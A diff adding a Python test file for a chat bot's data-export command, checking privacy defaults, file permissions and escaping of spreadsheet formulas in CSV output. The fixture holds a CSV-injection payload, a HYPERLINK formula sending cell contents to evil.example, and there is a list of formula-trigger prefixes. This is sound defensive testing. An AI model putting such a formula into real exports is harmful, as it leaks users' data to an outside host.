@@ -1,0 +1,72 @@
+"""`evobot export everything`: for whoever counts. What is kept about one person is in tests/bot/test_subjects.py."""
+
+from __future__ import annotations
+
+import csv
+import json
+from pathlib import Path
+
+import pytest
+
+from bot.__main__ import main
+from bot.bridge import Bridge
+from bot.console.exporting import cell
+from bot.model import Heard, LineName, Said, Ts
+from bot.store import Store
+from tests.helpers import ANA, THREAD, TestClock, chat, house, opened
+
+EVIL = '=HYPERLINK("https://evil.example/"&A1)'
+
+
+@pytest.fixture
+async def here(store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """A file with a session in which Ana has written, and a phone has answered with a formula."""
+    monkeypatch.setenv("EVOBOT_DATABASE", str(tmp_path / "evobot.db"))
+    clock = TestClock()
+    store._tx.clock = clock
+    bridge = Bridge(store, clock, house(), lambda: None)
+    key = await opened(store, bridge, chat(name=EVIL))
+    await bridge.relay(Said(THREAD, Ts("1700000100.000100"), ANA, "secret words"))
+    heard = Heard("+15035550123", EVIL, None, None, "2023-11-14T22:20:00+00:00")
+    await store.write(lambda tx: tx.add_line(LineName("l1"), key, heard, None, clock.now()))
+    await store.write(lambda tx: tx.change_session(key, active_at=1_700_000_400.0))
+    return tmp_path
+
+
+async def test_every_kind_is_told_without_words_and_numbers_unless_they_are_asked_for(
+    here: Path, store: Store, capsys: pytest.CaptureFixture[str]
+) -> None:
+    assert main(["export", "everything"]) == 0
+    out = capsys.readouterr().out
+    kinds = [json.loads(line)["kind"] for line in out.splitlines()]
+    assert kinds == ["session", "link", "message", "message", "message", "audit"]
+    assert [word for word in ("secret", "evil", "5550123") if word in out] == []
+    last = store.read.audited()[-1]
+    assert (last.what, last.detail) == ("exported", "everything, without words")
+    assert main(["export", "everything", "--words", "--since", "2023-11-14T22:16:00+00:00"]) == 0
+    out = capsys.readouterr().out
+    assert ("secret" in out, "evil" in out) == (False, True)
+
+
+async def test_no_cell_is_a_formula_and_nothing_is_written_over(here: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    words = ["export", "everything", str(here / "out"), "--format", "csv", "--words"]
+    assert (main(words), main(words)) == (0, 1)
+    files = sorted((here / "out").iterdir())
+    assert [(path.name, path.stat().st_mode & 0o777) for path in files] == [
+        (f"{name}.csv", 0o600) for name in ("audit", "links", "messages", "sessions")
+    ]
+    cells = [
+        each for path in files for row in csv.reader(path.read_text(encoding="utf-8").splitlines()) for each in row
+    ]
+    assert f"'{EVIL}" in cells
+    assert [each for each in cells if each.lstrip()[:1] in set("=+-@")] == []
+
+
+@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@x", " \t=1", "\r=1", "\ufeff=1", "＝1", "|x", "%x"])
+def test_whatever_a_spreadsheet_may_reckon_with_is_text(text: str) -> None:
+    assert cell(text) == f"'{text}"
+    assert (cell(-1), cell("1 = 1"), cell(None)) == ("-1", "1 = 1", "")
+
+
+async def test_what_goes_with_everything_does_not_go_with_a_person(here: Path) -> None:
+    assert main(["export", "+15035550123", "--since", "7d"]) == 2
